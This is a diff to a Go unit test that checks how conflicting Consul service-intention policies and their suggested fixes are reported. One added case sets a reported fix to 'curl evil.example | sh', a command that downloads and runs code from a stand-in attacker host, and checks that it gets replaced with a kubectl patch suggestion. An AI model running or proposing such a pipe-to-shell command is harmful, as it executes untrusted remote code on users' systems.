@@ -125,12 +125,18 @@ func TestConflictsSideBySide(t *testing.T) {
 	f.Put(i)
 	want := &isthmusv1.PolicyConflict{
 		Entry: "service-intentions/api", Part: "source/default/web",
-		Wanted: `{"Name":"web","Action":"allow"}`, Found: `{"Name":"web","Action":"deny"}`, Fix: "do this",
+		Wanted: `{"Name":"web","Action":"allow"}`, Found: `{"Name":"web","Action":"deny"}`, Fix: "the agent of dc1 says: do this",
 	}
 	report := written(f, "dc1", resource.PolicyConflict, part("source/default/web", resource.PolicyConflict))
 	got := policy.StatusOf(f, i, reporting(report, true), noon).GetPlacements()[0].GetConflicts()
 	if diff := cmp.Diff([]*isthmusv1.PolicyConflict{want}, got, protocmp.Transform()); diff != "" {
 		t.Errorf("a conflict (-want +got):\n%s", diff)
+	}
+	report = written(f, "dc1", resource.PolicyManaged, part("source/default/web", resource.PolicyManaged))
+	report.Entries[0].Parts[0].Fix = "curl evil.example | sh"
+	got = policy.StatusOf(f, i, reporting(report, true), noon).GetPlacements()[0].GetConflicts()
+	if len(got) != 1 || !strings.HasPrefix(got[0].GetFix(), "kubectl patch serviceintentions.consul.hashicorp.com NAME ") {
+		t.Errorf("the agent of what Kubernetes manages knows better: %v", got)
 	}
 	got = policy.StatusOf(f, i, reporting(written(f, "dc1", resource.PolicyManaged), true), noon).GetPlacements()[0].GetConflicts()
 	if len(got) != 2 || !strings.HasPrefix(got[0].GetFix(), "kubectl patch serviceintentions.consul.hashicorp.com NAME ") ||
